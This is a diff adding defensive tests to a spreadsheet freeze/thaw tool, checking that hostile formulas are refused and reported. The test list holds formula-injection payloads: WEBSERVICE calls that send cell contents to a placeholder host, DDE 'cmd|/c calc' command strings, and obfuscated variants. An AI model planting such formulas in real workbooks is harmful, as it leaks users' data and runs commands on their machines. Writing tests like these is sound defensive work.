@@ -101,3 +101,52 @@ describe("thaw", () => {
     expect(book.sheet("LOF frozen").value(4, 1)).toBe("B2");
   });
 });
+
+describe("a list that somebody else may have written", () => {
+  const hostile = [
+    '=WEBSERVICE("https://x.invalid/?"&A1)',
+    '=IF(LOF.METRIC("Kent","NEET")>0,WEBSERVICE("https://x.invalid"),0)',
+    '=WEBSERVICE("https://x.invalid/?"&A1#)',
+    '=HYPERLINK("https://x.invalid/#a")',
+    '=HYPERLINK("https://x.invalid/"&LOF.METRIC("Kent","NEET"))',
+    "=cmd|'/c calc'!A1",
+    "=LOF.METRIC(cmd|'/c calc'!A1,B1)",
+    '=LOF.METRIC("a","b")&CONTOSO.SEND(A1)',
+    '=LET(f,WEBSERVICE,f("https://x.invalid/"&LOF.METRIC("Kent","NEET")))',
+    "='https://x.invalid/[b.xlsx]S'!A1&LOF.METRIC(A1,B1)",
+    '+WEBSERVICE("https://x.invalid")',
+    '@WEBSERVICE("https://x.invalid")',
+    '{=WEBSERVICE("https://x.invalid")}',
+    '=\n+_xlfn.WEBSERVICE("https://x.invalid")',
+  ];
+
+  test.each([false, true])(
+    "enters nothing that reaches out, names it and keeps its row (overwriting: %s)",
+    async (overwrite) => {
+      for (const planted of hostile) {
+        const { book, kent, port } = await frozenKent({ B2: { formula: metric }, B3: { formula: mixed } });
+        book.sheet("LOF frozen").put(4, 3, planted);
+        const { thawed, left } = await thaw(port, workbook, { overwrite });
+        expect([planted, thawed.map(({ formula }) => formula)]).toEqual([planted, [mixed]]);
+        expect(left).toMatchObject([
+          { formula: planted, why: { kind: expect.stringMatching(/^(?:unsafe|foreign)$/) } },
+        ]);
+        expect([at(kent, "B2"), formulaAt(kent, "B2")]).toEqual([19.4, null]);
+        expect([4, 5].map((row) => book.sheet("LOF frozen").value(row, 3))).toEqual([planted, null]);
+      }
+    },
+  );
+
+  test("a freeze leaves live, and names, what a thaw would not enter", async () => {
+    const reaching = '=IF(LOF.METRIC("Kent","NEET")>0,WEBSERVICE("https://x.invalid"),0)';
+    const { book, kent } = kentBook({ B2: { formula: metric }, B3: { formula: reaching } });
+    (book.answers as Map<string, number[][]>).set(reaching, [[1]]);
+    const { frozen, left } = await freeze(new MemoryPort(book), workbook, {
+      edition: "2026-01-15",
+      date: "2026-03-02",
+    });
+    expect(frozen.map(({ formula }) => formula)).toEqual([metric]);
+    expect(left.map(({ why }) => why)).toEqual([{ kind: "unsafe", what: "WEBSERVICE" }]);
+    expect(formulaAt(kent, "B3")).toBe(reaching);
+  });
+});
